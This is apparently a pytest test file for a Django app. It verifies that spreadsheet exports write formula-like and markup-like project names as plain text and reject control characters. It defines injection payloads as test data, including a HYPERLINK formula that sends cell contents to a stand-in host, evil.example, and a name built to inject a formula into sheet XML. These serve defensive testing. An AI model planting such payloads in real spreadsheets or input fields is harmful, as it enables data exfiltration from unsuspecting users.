"""Exports are safe (the 2026 security audit): a control character is refused when typed and removed
from any export; text that a spreadsheet would run as a formula is written as text. Every export
and archive goes through yingkou.exports.Exporter, so these names are tried on the monthly list, the
projects export, the entries export and the month-end archive job."""

import datetime as dt
import io
import zipfile

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from reserve.models import MonthlyArchive
from tests.conftest import api_as
from tests.factories import ProjectFactory
from tests.reserve.conftest import pooled
from yingkou.models import Project
from yingkou.scheduling import run_period

pytestmark = pytest.mark.django_db

CONTROL = "QA-ctrl\u0001-name"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
FORMULAS = [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tTAB", "\rCR"]
OCTOBER = dt.datetime(2026, 10, 12, 10, tzinfo=dt.UTC)


@pytest.fixture
def hostile(area, owner, reviewer, drc, level1):
    """Pooled projects whose names came in before input was checked (as the audit found them)."""
    with time_machine.travel(OCTOBER, tick=False):
        entries = [pooled(area, owner, reviewer, name=f"项目{i}") for i in range(len(FORMULAS) + 1)]
    for entry, name in zip(entries, [CONTROL, *FORMULAS], strict=True):
        Project.objects.filter(pk=entry.project_id).update(name=name)
        Project.history.filter(id=entry.project_id).update(name=name)  # month-end lists read it
    return entries


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_safe(content: bytes, column: int = 1) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row[column : column + 1]}
    assert "QA-ctrl-name" in cells  # the control character removed, the rest kept
    for name in FORMULAS:
        assert cells[name].data_type == "s", name
        assert cells[name].quotePrefix, name


@time_machine.travel(dt.datetime(2026, 11, 26, 10, tzinfo=dt.UTC), tick=False)
def test_the_monthly_list_writes_hostile_names_as_plain_text(client, bureau, hostile):
    client.force_login(bureau)
    response = client.get(reverse("reserve:monthly_list_xlsx", args=["2026-10"]))
    assert response.status_code == 200
    assert_safe(body(response))


def test_the_projects_export_writes_hostile_names_as_plain_text(client, drc, hostile):
    client.force_login(drc)
    response = client.get(reverse("projects:list"), {"export": "xlsx"})
    assert response.status_code == 200
    assert_safe(body(response))


def test_the_entries_export_writes_hostile_names_as_plain_text(client, bureau, hostile):
    client.force_login(bureau)
    response = client.get(reverse("reserve:entry_list"), {"export": "xlsx"})
    assert response.status_code == 200
    assert_safe(body(response))


@time_machine.travel(dt.datetime(2026, 11, 1, 0, 30, tzinfo=dt.UTC), tick=False)
def test_the_month_end_archive_job_writes_hostile_names_as_plain_text(hostile):
    results = {r.job: r.status for r in run_period("monthly", dt.date(2026, 10, 31))}
    assert results["reserve_monthly_list"] == "succeeded"
    assert_safe(bytes(MonthlyArchive.objects.get(kind="detail_list").content))


def test_a_control_character_is_refused_when_typed_through_the_api(drc, area):
    project = ProjectFactory(owner_unit=area, landing_unit=area)
    response = api_as(drc).patch(
        f"/api/v1/projects/{project.pk}/",
        {"name": CONTROL, "version": project.version},
        format="json",
    )
    assert response.status_code == 400
    assert "控制字符" in str(response.json()["name"])
    project.refresh_from_db()
    assert project.name != CONTROL


def test_a_control_character_is_refused_when_typed_in_a_form(client, owner, area):
    client.force_login(owner)
    response = client.post(
        reverse("projects:create"),
        {"name": CONTROL, "industry": "C26", "total_investment": "1000", "stage": "reserve"},
    )
    assert response.status_code == 200
    assert "控制字符" in response.content.decode()
    assert not Project.objects.filter(name=CONTROL).exists()


def test_a_formula_like_name_is_kept_as_typed(drc, area):
    """Refusing =1+1 would refuse honest text; it is kept and only ever exported as text."""
    project = ProjectFactory(owner_unit=area, landing_unit=area)
    response = api_as(drc).patch(
        f"/api/v1/projects/{project.pk}/", {"name": "=1+1", "version": project.version}
    )
    assert response.status_code == 200, response.json()


MARKUP = (
    '<r><t>x</t></r></is></c><c r="Z1"><f>1+1</f></c><c r="Z2" t="inlineStr"><is><r><t>y</t></r>'
)


def test_a_name_shaped_like_sheet_markup_stays_one_name(client, drc, area):
    """A streaming writer that copies ready-made rich text into the sheet as it is would let this
    name close its cell and open a formula; it is written as the text it is."""
    ProjectFactory(owner_unit=area, landing_unit=area, name=MARKUP)
    ProjectFactory(owner_unit=area, landing_unit=area, name="第一行\r\n第二行")
    client.force_login(drc)
    content = body(client.get(reverse("projects:list"), {"export": "xlsx"}))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    names = [
        row[1]
        for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=4, values_only=True)
    ]
    assert MARKUP in names
    assert "第一行\r\n第二行" in names  # a carriage return every reader reads back as one
